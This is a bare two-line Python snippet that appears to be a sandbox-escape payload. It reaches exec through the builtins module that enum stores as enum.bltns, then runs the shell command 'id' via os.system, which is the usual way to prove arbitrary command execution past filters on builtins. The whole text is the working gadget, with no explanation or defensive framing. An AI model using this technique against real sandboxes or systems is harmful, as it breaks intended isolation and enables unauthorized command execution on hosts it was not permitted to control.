import enum
enum.bltns.exec("import os; os.system('id')")
